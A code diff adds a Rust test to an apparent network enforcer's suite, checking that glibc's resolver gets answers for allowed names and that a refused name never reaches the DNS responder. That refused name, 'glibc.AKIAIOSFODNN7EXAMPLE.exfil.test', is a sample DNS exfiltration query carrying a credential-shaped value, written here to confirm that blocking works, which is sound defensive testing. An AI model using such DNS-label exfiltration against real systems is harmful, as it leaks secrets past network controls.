@@ -75,6 +75,10 @@ const TESTS: &[Test] = &[
         dns_allowed_resolves_blocked_refused_each_audited,
     ),
     (
+        "dns_glibc_resolver_accepts_redirected_answers",
+        dns_glibc_resolver_accepts_redirected_answers,
+    ),
+    (
         "one_audit_record_per_request_and_verify_passes",
         one_audit_record_per_request_and_verify_passes,
     ),
@@ -877,6 +881,65 @@ fn dns_allowed_resolves_blocked_refused_each_audited(env: &mut Env) {
         assert!(ips.contains(&want), "resolver {want} not in {ips:?}");
     }
     env.assert_audit_verifies();
+}
+
+/// getaddrinfo(argv[1]) through glibc: the sorted addresses, or `gaierror`.
+const GETADDRINFO: &str = r#"
+import socket, sys
+try:
+    print(" ".join(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443, 0, socket.SOCK_STREAM)})))
+except socket.gaierror as e:
+    print("gaierror", e.errno)
+"#;
+
+/// glibc's stub resolver (what curl, Python and most agents use), pointed by a private resolv.conf at an address
+/// where nothing listens: it accepts the redirected answers (it checks that a reply comes from the nameserver it
+/// asked) for an allowed name, and fails to resolve a refused one, which never reaches the responder.
+fn dns_glibc_resolver_accepts_redirected_answers(env: &mut Env) {
+    env.need_daemon();
+    let conf = env.dir.path().join("resolv.conf");
+    std::fs::write(
+        &conf,
+        format!("nameserver {}\noptions attempts:1 timeout:3\n", env.host_v4),
+    )
+    .expect("write resolv.conf");
+    let resolve = |name: &str| {
+        let out = Command::new("unshare")
+            .args(["--mount", "--propagation", "private", "sh", "-c"])
+            .arg(r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#)
+            .arg(&conf)
+            .arg(harness::enforcer_bin())
+            .arg("exec")
+            .arg("--config")
+            .arg(&env.config)
+            .args([
+                "--profile",
+                harness::PROFILE,
+                "--",
+                "python3",
+                "-c",
+                GETADDRINFO,
+                name,
+            ])
+            .stdin(Stdio::null())
+            .output()
+            .expect("unshare runs");
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout).trim(),
+            String::from_utf8_lossy(&out.stderr).trim()
+        )
+    };
+    let before = env.dns_count(API_HOST);
+    assert_eq!(resolve(API_HOST), DNS_ANSWER);
+    assert!(
+        env.dns_count(API_HOST) > before,
+        "the query reached the responder"
+    );
+    let blocked = "glibc.AKIAIOSFODNN7EXAMPLE.exfil.test";
+    let out = resolve(blocked);
+    assert!(out.starts_with("gaierror"), "{out}");
+    assert_eq!(env.dns_count(blocked), 0);
 }
 
 fn run(cmd: &[&str]) -> (i32, String, String) {
